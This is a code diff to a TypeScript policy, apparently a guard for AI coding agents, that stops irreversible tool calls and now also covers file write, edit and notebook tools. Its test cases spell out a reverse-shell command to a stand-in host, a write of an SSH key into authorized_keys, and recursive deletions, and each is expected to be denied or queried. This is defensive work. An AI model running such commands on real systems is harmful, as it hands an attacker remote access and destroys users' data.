@@ -1,29 +1,34 @@
-/** Stops shell commands whose damage cannot be undone. */
+/** Stops tool calls whose damage cannot be undone. */
 
 import { ask, definePolicy, deny, pass } from "../../../kernel/policy.ts";
 import { text } from "../../../lib/text.ts";
-import { bash } from "../../example.ts";
+import { bash, edit, write } from "../../example.ts";
+import { isOrdinaryWrite } from "./at-home.ts";
 import { strictestFirst } from "./danger.ts";
 import { destructionOf } from "./destruction.ts";
 import { scriptDangers } from "./script-danger.ts";
 
-/** Judged by the commands that would really run, in any quoting, wrapper or pipe; text that is only data passes. */
+/**
+ * Judged by the commands that would really run, in any quoting, wrapper or pipe; text that is only data passes. A file
+ * tool is judged by the same effects as a command that writes the same file.
+ */
 export const noDestructiveCommand = definePolicy({
   id: "no-destructive-command",
   on: ["PreToolUse"],
-  needs: ["places", "host", "reached", "scripts"],
+  needs: ["places", "host", "reached", "scripts", "session"],
   hasFloor: true,
   why: text(
     "Deleted files, overwritten disks and rewritten history do not come back, and an agent cannot see what a person still needs.",
     "削除されたファイルや上書きされたディスク、書き換えられた履歴は戻りません。何が必要かはエージェントには見えません。",
   ),
 
-  applies: ({ tool }) => tool.kind === "bash",
+  applies: ({ tool: { kind } }) => kind === "bash" || kind === "write" || kind === "edit" || kind === "notebook",
 
   check({ event, operation, facts }) {
     const { home, project } = facts.places;
-    const { directory: hostDirectory } = facts.host;
-    const ground = { cwd: event.cwd, home, project, hostDirectory, reached: facts.reached };
+    const { host, reached } = facts;
+    const ground = { cwd: event.cwd, home, project, host, reached, registration: facts.session.registration };
+    if (!operation.shell && isOrdinaryWrite(operation, ground)) return pass;
     const inScripts = facts.scripts.length > 0 ? scriptDangers(facts.scripts, ground) : [];
     const dangers = [...destructionOf(operation, ground), ...inScripts].sort(strictestFirst);
     const [worst] = dangers;
@@ -42,6 +47,9 @@ export const noDestructiveCommand = definePolicy({
     { expect: "deny", when: bash("bash -i >& /dev/tcp/x.example/99 0>&1") },
     { expect: "ask", when: bash('rm -rf "$DIR"/*') },
     { expect: "ask", when: bash("git commit --no-verify -m x") },
+    { expect: "deny", when: write("/home/dev/.ssh/authorized_keys", "ssh-ed25519 A") },
+    { expect: "ask", when: edit("/home/dev/project/.git/config") },
+    { expect: "pass", when: edit("/home/dev/project/src/a.ts") },
     { expect: "pass", when: bash("rm -rf node_modules dist") },
     { expect: "pass", when: bash('git commit -m "never run rm -rf /"') },
   ],
